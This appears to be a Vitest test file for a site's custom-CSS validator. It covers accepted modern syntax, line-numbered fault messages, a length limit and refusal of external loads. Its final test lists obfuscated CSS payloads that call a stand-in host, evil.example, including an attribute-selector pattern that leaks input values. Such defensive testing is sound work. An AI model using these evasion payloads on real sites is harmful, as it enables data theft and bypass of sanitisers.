/** Which CSS the owner may publish. */
import { expect, test } from 'vitest';
import { customCssMessages as messages } from '../ui-text/owner.ts';
import { cssFaults, customCss, maxCustomCss } from './custom-css.ts';

test('custom CSS may use all syntax of present style sheets', () => {
  const css = String.raw`@charset "utf-8";
@layer base, site;
@layer site { .a { color: red; &:hover, .b & { color: oklch(0.6 0.2 30 / 50%) } > p { margin: 0 } } }
@container card (min-width: 30rem) and style(--x: 1) { .a { color: red } }
@scope (.card) to (.footer) { :scope { color: red } }
@property --angle { syntax: "<angle>"; inherits: false; initial-value: 0deg; }
.a:has(> img):not(:is(.b, .c)) { width: calc(100% - clamp(1rem, 2vw, 3rem)); @media (width > 30rem) { color: blue } }
@media (400px <= width < 900px) { a { color: light-dark(#fff, #000); background: url(/icon/1.png) } }
.x { --empty: ; --block: { a: b }; --colon: a:b; color: if(style(--a: 1): red; else: blue); ; }
a::before { content: "http://example.org }"; mask: url("data:image/svg+xml,<svg/>"); filter: url(#blur) }
@keyframes spin { from { rotate: 0deg } 50.5% { rotate: 1turn } }
@page :first { margin: 1in; @top-left { content: "x" } }
.hero\:x > a[href^="http:" i] { grid-template-areas: "a b" "c d" } /* } */
@font-face { font-family: X; src: local("Arial"), url('/assets/x.woff2') format("woff2"); unicode-range: U+0-7F }
@starting-style { .a { opacity: 0 } }`;
  expect(cssFaults(css)).toEqual([]);
  expect(cssFaults('')).toEqual([]);
});

test.each([
  ['a {\n  color red;\n}', 2, messages.noDeclaration],
  ['a {\n  color: red\n  margin: 0;\n}', 3, messages.noSemicolon],
  ['a { color: red; }\n}', 2, messages.unopened('}')],
  ['a { width: calc(1px;\n}', 2, messages.unopened('}')],
  ['\na {\n  color: red;', 2, messages.unclosed('{')],
  ['a {}\nhello', 2, messages.noBlock],
  ['a {}\nb; c {}', 2, messages.noBlock],
  ['a { content: "x\n" }', 1, messages.unreadable],
  ['a {}\n\n/* x', 3, messages.unreadable],
])('the line of the fault in the custom CSS %j is named', (css, line, message) => {
  expect(cssFaults(css)[0]).toEqual({ line, message });
});

test('at most three faults of custom CSS are named in the message of the field', () => {
  const { error } = customCss.safeParse('a { b }\nc { d }\n\ne { f }\ng { h }');
  expect(error?.issues.map(({ message }) => message)).toEqual([
    [1, 2, 4].map((line) => `Line ${line}: ${messages.noDeclaration}`).join(' '),
  ]);
});

test('custom CSS above the length limit is refused', () => {
  expect(customCss.safeParse(`a{}${' '.repeat(maxCustomCss - 3)}`).success).toBe(true);
  expect(customCss.safeParse(`a{}${' '.repeat(maxCustomCss - 2)}`).error?.issues[0]?.message).toBe(
    messages.tooLong(maxCustomCss),
  );
});

test.each([
  'input[value^="a"] { background: url(https://evil.example/a) }',
  'a { background: url( "//evil.example/a" ) }',
  String.raw`a { background: \75 \72l(https://evil.example/a) }`,
  'a { background: URL(HTTPS://evil.example/a) }',
  'a { background: url(/\t/evil.example/a) }',
  String.raw`a { background: url("/\9/evil.example/a") }`,
  String.raw`a { background: url("/\\evil.example/a") }`,
  String.raw`a { background: url("\2f\2f evil.example/a") }`,
  'a { background: url(" https://evil.example") }',
  'a { background: url(evil.png) }',
  'a { background: url(../../evil.png) }',
  'a { background: url(data:text/html,x) }',
  'a { background: url(var(--x)) }',
  'a { background: url(/**/"https://evil.example") }',
  'a { background: image-set("https://evil.example/a" 1x) }',
  'a { --a: "https://evil.example/a"; background: -webkit-image-set(var(--a) 1x) }',
  String.raw`a { background: image\2dset("https://evil.example/a" 1x) }`,
  'a { background: src("https://evil.example/a") }',
  'a { background: image("https://evil.example/a") }',
  'a { --a: url(https://evil.example/a) }',
  'a { --a: { b: url(https://evil.example/a) } }',
  '@font-face { font-family: x; src: url(https://evil.example/a.woff2); unicode-range: U+61 }',
  '@import "https://evil.example/a.css";',
  '@import url(/icon/a.css);',
  String.raw`@\69mport "https://evil.example/a.css";`,
  '@IMPORT "x.css";',
  '@media all { @import "x.css"; }',
  '@namespace url(https://evil.example/);',
  'a { cursor: url(ftp://evil.example/a), auto }',
  'a { background: url(https://evil.example/a',
])('custom CSS that loads anything from elsewhere is refused: %s', (css) => {
  const loading: string[] = [messages.noOtherSites, messages.noImport, messages.unreadable];
  const [first] = cssFaults(css);
  expect(loading.includes(first?.message ?? '') || first?.message.endsWith('Use url().')).toBe(true);
});
